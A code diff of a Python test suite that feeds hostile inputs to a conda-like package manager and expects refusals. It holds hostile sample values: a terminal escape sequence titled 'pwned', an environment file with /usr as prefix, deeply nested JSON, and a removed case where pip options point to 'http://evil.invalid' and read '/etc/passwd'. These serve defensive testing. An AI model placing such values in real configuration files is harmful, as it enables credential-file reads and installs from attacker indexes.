@@ -6,9 +6,10 @@ import json
 import os
 
 from tests.channels import Package
-from tests.hostile.world import Case, Cases, Harmless, Make, Outcome, Refused, World
+from tests.hostile.runner import Outcome
+from tests.hostile.world import Case, Cases, Harmless, Make, Refused, World
 
-INVALID = "EnvironmentFileInvalid|SpecNotFound|CondaValueError|error|Invalid"
+INVALID = "CondaValueError"
 CREATE = ("create", "-y", "-n", "new")
 ENV_CREATE = ("env", "create", "-y", "-n", "new", "-f")
 STEER = "\x1b[2J\x1b]0;pwned\x07"
@@ -122,13 +123,7 @@ CASES: Cases = {
     ),
     "an environment file with a directory of the system as its prefix": Case(
         file("environment.yml", "prefix: /usr\ndependencies: []\n", "env", "create", "-y", "-f", "environment.yml"),
-        Refused("Condition|Error|error", ("/usr|name",)),
-    ),
-    "an environment file with options for pip": Case(
-        environment(
-            "channels: [URL, nodefaults]\ndependencies: [tool, {pip: ['--index-url=http://evil.invalid', '-r/etc/passwd']}]\n"
-        ),
-        Refused("error|Error", ("pip|python",)),
+        Refused("DirectoryNotACondaEnvironmentError", ("/usr", "other things")),
     ),
     "an environment file with variables that are code": Case(
         environment(
@@ -185,10 +180,10 @@ CASES: Cases = {
     "a condarc that is a pipe": Case(pipe, Harmless("not read, not waited for")),
     # Saved problems
     "a saved problem nested without end": Case(
-        file("problem.json", b"[" * 1_000_000, "solve-problem", "problem.json"), Refused("error|Error", ("problem",))
+        file("problem.json", b"[" * 1_000_000, "solve-problem", "problem.json"), Refused("error", ("problem.json",))
     ),
     "a saved problem of wrong types": Case(
         file("problem.json", json.dumps({"version": 1, "request": 7}), "solve-problem", "problem.json"),
-        Refused("error|Error", ("problem",)),
+        Refused("error", ("problem.json",)),
     ),
 }
